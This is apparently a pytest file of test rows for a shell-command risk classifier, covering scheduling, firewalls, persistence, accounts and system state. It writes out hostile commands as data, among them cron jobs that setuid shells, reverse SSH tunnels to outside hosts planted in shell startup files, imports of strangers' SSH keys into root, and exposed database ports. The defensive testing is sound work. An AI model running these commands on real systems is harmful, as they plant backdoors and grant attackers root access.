"""Persistence, scheduling, accounts, system state and firewalls, round 14.

Built from the misses of the tune11 corpus in these families, each with variants a different
writer might type for the same danger and near misses that must stay low.

Before the fixes of this round, 35 of 44 dangerous rows and 19 of 22 near misses failed (rows
another table already held word for word were dropped first). The two account-lock near misses
are strict xfails: older tables rate locking any account high.
"""

from __future__ import annotations

import pytest

from tests.safety_table import CRITICAL, HIGH, MODERATE, SAFE, RiskLevel, reaches, stays_within


def _todo(what: str) -> pytest.MarkDecorator:
    return pytest.mark.xfail(strict=True, reason=f"not yet caught: {what}")


SCHEDULED: list[object] = [
    ("echo 'find /mnt/nas -type f -mtime +30 -delete' | sudo at now + 5 minutes", HIGH),
    ("echo 'rm -rf /srv/backups/old' | at midnight", HIGH),
    ("printf 'find /home -name \"*.log\" -delete\\n' | batch", HIGH),
    ("sudo at -f /tmp/downloaded.sh now + 1 minute", CRITICAL),
    ("at -f /var/tmp/payload.sh 03:00", HIGH),
    ("sudo at -f /dev/shm/job.sh midnight", CRITICAL),
    ("sudo batch -f /tmp/run.sh", CRITICAL),
    pytest.param(
        "echo '*/10 * * * * root chmod 4755 /bin/bash' | sudo bash -c 'cat >> /etc/crontab'",
        CRITICAL,
        marks=_todo("text piped through sh -c 'cat >> FILE' is not read"),
    ),
    ("echo '* * * * * root chmod u+s /bin/sh' | sudo tee -a /etc/crontab", CRITICAL),
    ("echo '@reboot root chmod 4755 /usr/bin/python3' | sudo tee /etc/cron.d/keep", CRITICAL),
]

SCHEDULED_NEAR: list[object] = [
    ("squeue --start -u $USER", SAFE),
    ("squeue -u alice", SAFE),
    ("scontrol show reservation", SAFE),
    ("scontrol show job 1234", SAFE),
    ("sinfo -N -l", SAFE),
    ("echo 'echo hello > /tmp/hello.txt' | at now + 1 minute", MODERATE),
]

FIREWALL: list[object] = [
    pytest.param(
        "sudo firewall-cmd --permanent --zone=public --add-port=8888/tcp"
        " && sudo firewall-cmd --reload",
        HIGH,
        marks=_todo("8888 counts as a usual port"),
    ),
    ("sudo firewall-cmd --zone=public --add-port=3306/tcp --permanent", HIGH),
    ("firewall-cmd --permanent --add-service=mysql", HIGH),
    ("sudo ufw allow proto tcp from any to any port 22,3306,6379", HIGH),
    ("sudo ufw allow from any to any port 5432", HIGH),
    ("upnpc -a 192.168.1.50 22 22 TCP", HIGH),
    ("upnpc -a 192.168.1.20 3389 3389 TCP", HIGH),
    ("upnpc -r 8080 TCP", HIGH),
]

FIREWALL_NEAR: list[object] = [
    ("upnpc -l", SAFE),
    ("upnpc -s", SAFE),
]

PERSISTENCE: list[object] = [
    ("ssh-import-id gh:pi-helper-2024", CRITICAL),
    ("ssh-import-id-gh some-stranger", CRITICAL),
    ("sudo -u deploy ssh-import-id lp:someone", CRITICAL),
    ("ssh-import-id -o /root/.ssh/authorized_keys gh:helper", CRITICAL),
    ("echo 'ssh -fN -R 2222:localhost:22 tunnel@203.0.113.7' >> ~/.profile", CRITICAL),
    ("echo 'ssh -f -N -R 9000:localhost:22 user@198.51.100.4 &' >> ~/.bashrc", CRITICAL),
    ("echo 'autossh -M 0 -fN -R 2222:localhost:22 relay@203.0.113.9' >> ~/.zshrc", CRITICAL),
    ("sudo sysrc agent_enable=YES", HIGH),
    ("sudo sysrc -f /etc/rc.conf backdoor_enable=YES", HIGH),
]

PERSISTENCE_NEAR: list[object] = [
    ("sysrc sshd_enable=YES", MODERATE),
    pytest.param("sudo sfltool dumpbtm", SAFE, marks=_todo("sfltool is unknown")),
    pytest.param("sudo sfltool dumpbtm | less", SAFE, marks=_todo("sfltool is unknown")),
    ("ssh-import-id --help", SAFE),
    ("echo 'export PATH=$HOME/bin:$PATH' >> ~/.profile", MODERATE),
]

_LOCKS_HIGH = pytest.mark.xfail(
    strict=True,
    reason="conflicts with test_safety_g6_sys.py: ('passwd -l root', HIGH); the lock rule ignores"
    " which account",
)

ACCOUNTS: list[object] = [
    pytest.param(
        "sudo htpasswd -b /etc/nginx/.htpasswd admin admin",
        HIGH,
        marks=_todo("a weak password given on the command line"),
    ),
    pytest.param(
        "htpasswd -bc /etc/apache2/.htpasswd admin password",
        HIGH,
        marks=_todo("a weak password given on the command line"),
    ),
    pytest.param(
        "sudo htpasswd -b -B /etc/nginx/.htpasswd root 123456",
        HIGH,
        marks=_todo("a weak password given on the command line"),
    ),
    pytest.param(
        "sudo dseditgroup -o edit -a everyone -t group admin",
        CRITICAL,
        marks=_todo("a whole group made administrators"),
    ),
    pytest.param(
        "sudo dseditgroup -o edit -a staff -t group admin",
        CRITICAL,
        marks=_todo("a whole group made administrators"),
    ),
    ("sudo usermod -aG sudo users", HIGH),
]

ACCOUNTS_NEAR: list[object] = [
    pytest.param("sudo passwd -l olduser", MODERATE, marks=_LOCKS_HIGH),
    pytest.param("sudo usermod -L olduser", MODERATE, marks=_LOCKS_HIGH),
    pytest.param(
        "htpasswd -v /etc/nginx/.htpasswd admin", SAFE, marks=_todo("htpasswd is unknown")
    ),
]

SYSTEM: list[object] = [
    ("sudo rpi-eeprom-update -d -f ./pieeprom-custom.bin", HIGH),
    ("sudo rpi-eeprom-update -a", HIGH),
    ("sudo rpi-eeprom-update -f ~/Downloads/pieeprom.bin", HIGH),
    ("sudo scontrol update nodename=gpu[01-16] state=down reason=maint", HIGH),
    ("scontrol update NodeName=node07 State=DRAIN Reason=disk", HIGH),
    ("sudo scontrol shutdown", HIGH),
    ("sudo softwareupdate -ia --restart", HIGH),
    ("softwareupdate --install --all --restart", HIGH),
    ("sudo softwareupdate -i -a -R", HIGH),
]

SYSTEM_NEAR: list[object] = [
    ("sudo rpi-eeprom-update", SAFE),
    ("rpi-eeprom-update -l", SAFE),
    ("nvidia-smi -q -d PERFORMANCE", SAFE),
    ("nvidia-smi -L", SAFE),
    ("nvidia-smi --query-gpu=name,temperature.gpu --format=csv", SAFE),
    ("scontrol show node gpu07", SAFE),
    ("scontrol show partition", SAFE),
]

DANGEROUS = SCHEDULED + FIREWALL + PERSISTENCE + ACCOUNTS + SYSTEM
NEAR_MISSES = SCHEDULED_NEAR + FIREWALL_NEAR + PERSISTENCE_NEAR + ACCOUNTS_NEAR + SYSTEM_NEAR


@pytest.mark.parametrize(("command", "least"), DANGEROUS)
def test_dangerous(command: str, least: RiskLevel) -> None:
    reaches(command, least)


@pytest.mark.parametrize(("command", "highest"), NEAR_MISSES)
def test_near_miss(command: str, highest: RiskLevel) -> None:
    stays_within(command, highest)
